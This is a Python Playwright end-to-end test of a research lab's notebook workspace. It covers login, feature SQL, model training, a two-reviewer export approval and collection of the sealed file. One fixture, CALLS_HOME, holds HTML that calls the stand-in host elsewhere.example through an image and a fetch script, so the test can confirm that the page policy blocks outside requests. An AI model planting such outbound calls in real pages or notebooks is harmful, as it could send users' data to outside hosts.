"""A researcher's day in a real browser: log in, practise, write a feature, get rows, train, compare, submit, receive.

Whatever a page shows, the browser sends requests to the lab alone.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request, sync_playwright

from credit.keys import KeyRing
from credit.seal import Kind
from credit.shelf import Shelf
from infra import lab_services as on_this_machine
from tests.lab.workspace.conftest import DAY, Lab, password
from tests.lab.workspace.workspace_client import second_factor

pytestmark = pytest.mark.servers
CHROMIUM = "/usr/bin/chromium"
QUIET = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
LOOK = "import lab\nlab.catalogue('penalty')"
FEATURE = """%%features fresh
SELECT subject, count(*) AS fresh_penalties FROM administrative_penalty
WHERE decided_on >= as_of - INTERVAL 6 MONTH GROUP BY subject"""
WRONG = "lab.sql('select count(*) from administrative_penalti')"
TRAIN = """fewer = {"trials": 1}
plain = lab.train(lab.order("enterprise", training=fewer))
mine = lab.train(lab.order("enterprise", sql=fresh, features=[lab.feature("fresh_penalties", "近6个月处罚次数", +1)], training=fewer))
print("trained", plain.state, mine.state)"""
COMPARE = "lab.compare(plain, mine)"
ROWS = """rows = lab.rows(fresh, as_of="2026-10-01")
print("rows", len(rows), rows.pandas().columns.tolist())"""
TABLE = """import pandas as pd
some = int((rows.pandas()["fresh_penalties"] > 0).sum())
counts = pd.DataFrame({"kind": ["enterprise, none", "enterprise, some"], "firms": [len(rows) - some, some]})
counts["firms"] = (counts["firms"] // 5) * 5
counts.to_csv("kinds.csv", index=False)
asked = lab.carry_out("kinds.csv", title="Firms with penalties", purpose="A slide for the yearly report",
    description="Firms with and without penalties in six months", sources=[rows], subjects=int(counts["firms"].sum()), submit=True)
print("asked for", asked.id)"""
CALLS_HOME = """from IPython.display import HTML
HTML('<img src="https://elsewhere.example/?rows=1"><script>fetch("https://elsewhere.example/2")</script><p>shown</p>')"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    assert Path(CHROMIUM).exists(), (
        "install Chromium (apt-get install chromium), or leave this test out with -k 'not day'"
    )
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        yield started
        started.close()


class BrowserPage:
    """The browser of one user, which records every address that it requests."""

    def __init__(self, browser: Browser, lab: Lab, user: str, start: str) -> None:
        self.requests: list[Request] = []
        self.page: Page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
        self.page.set_default_timeout(120_000)
        self.page.on("request", lambda request: self.requests.append(request))
        self.page.goto(f"{lab.url}{start}")
        self.page.fill("#username_input", user)
        self.page.fill("#password_input", password(user))
        self.page.click("#login_submit")
        self.page.wait_for_url(lambda url: "/hub/login" not in url)
        if "second-factor" in self.page.url:
            self.page.fill("#code_input", second_factor(lab.home, user))
            self.page.click("#code_submit")

    def hosts_requested(self, *, blocked: bool = False) -> set[str]:
        """The hosts of all requests, or of those that the policy of the page blocked."""
        sent = [each for each in self.requests if each.url.startswith("http")]
        return {str(urlsplit(each.url).hostname) for each in sent if ("csp" in (each.failure or "")) is blocked}


def run(page: Page, code: str, seconds: float = 150) -> str:
    """Type a cell into the open notebook, run it, wait for its end, and return its output."""
    cell = page.locator(".jp-Notebook .jp-CodeCell").last
    cell.locator(".cm-content").click()
    page.keyboard.insert_text(code)
    page.keyboard.press("Shift+Enter")
    own_cell = page.locator(".jp-Notebook .jp-CodeCell").nth(-2)
    own_cell.locator(".jp-InputPrompt", has_text="[*]").wait_for(state="detached", timeout=seconds * 1000)
    page.wait_for_function(
        "() => [...document.querySelectorAll('.jp-Notebook .jp-CodeCell')].slice(0, -1).every(c => /\\[\\d+\\]/.test(c.querySelector('.jp-InputPrompt').textContent))",
        timeout=seconds * 1000,
    )
    return own_cell.locator(".jp-OutputArea").inner_text() if own_cell.locator(".jp-OutputArea-child").count() else ""


def approve(browser: Browser, lab: Lab, who: str, parcel: str, pictures: Path) -> None:
    """A reviewer opens the parcel from the queue, reads the file to its end, and approves with a reason, twice."""
    browser_page = BrowserPage(browser, lab, who, "/services/console/")
    page = browser_page.page
    page.wait_for_url("**/services/console/**")
    page.goto(f"{lab.url}/services/console/parcels/{parcel}")
    assert "kinds.csv" in page.inner_text("main")
    assert "enterprise" in page.inner_text("main"), "the file is shown beside its findings"
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 900})
        page.screenshot(path=str(pictures / f"parcel-{who}-{width}.png"))
    page.click("button[data-key=end]")
    page.wait_for_selector("textarea[name=reason]")
    page.fill("textarea[name=reason]", "Two kinds, thousands of subjects each")
    page.click("button[value=approve]")
    page.wait_for_url("**/vote")
    page.click("button[value=approve]")
    page.wait_for_url("**said=voted")
    assert browser_page.hosts_requested() == {"localhost"}
    page.context.close()


def test_a_researchers_day(lab: Lab, browser: Browser, mlflow_server: str, tmp_path: Path) -> None:
    with on_this_machine.zones(lab.home, mlflow_server, DAY):
        browser_page = BrowserPage(browser, lab, "dana", "/hub/login")
        page = browser_page.page
        page.locator(".jp-Launcher").wait_for(timeout=120_000)
        page.locator(".jp-LauncherCard[data-category=Notebook]").first.click()
        page.locator(".jp-Notebook .cm-content").first.wait_for(timeout=120_000)
        page.locator(".jp-StatusBar-Widget", has_text="| Idle").wait_for(timeout=120_000)

        catalogue = run(page, LOOK)
        assert "行政处罚" in catalogue
        assert "invented 虚构" in catalogue
        assert "Did you mean administrative_penalty" in run(page, WRONG)
        assert "fresh_penalties" in run(page, FEATURE)
        assert "'fresh_penalties'" in run(page, ROWS)
        assert "trained done done" in run(page, TRAIN, seconds=600)
        compared = run(page, COMPARE)
        assert "AUC" in compared
        assert page.locator(".jp-OutputArea img").count() >= 1, "the comparison is drawn"
        assert "shown" in run(page, CALLS_HOME)
        output = run(page, TABLE)
        assert "asked for" in output
        parcel = output.split("asked for")[1].split()[0]
        page.screenshot(path=str(tmp_path / "notebook.png"))

        for reviewer in ("rita", "remy"):
            approve(browser, lab, reviewer, parcel, tmp_path)
        assert "approved" in run(page, "lab.parcels()")
        received = run(page, "got = lab.parcels()[0].collect()\nprint(got.state, got.sealed)")
        assert "received" in received
        assert browser_page.hosts_requested(blocked=True) == {"elsewhere.example"}, "it was tried"
        assert browser_page.hosts_requested() == {"localhost"}, "nothing was asked of anybody else"
        page.context.close()
    sealed = received.split("received")[1].split()[0]
    opened = Shelf(lab.home.root / "outbox", KeyRing.load(lab.home.ring_folder)).open(sealed)
    assert opened.seal.kind is Kind.PARCEL
    assert (opened.path / "kinds.csv").read_text().startswith('"kind","firms"')
    verbs = [entry.verb for entry in lab.home.ledger("research").entries() if entry.by.name in ("dana", "rita", "remy")]
    for verb in ("cell.executed", "cell.read", "order.placed", "training.asked"):
        assert verb in verbs
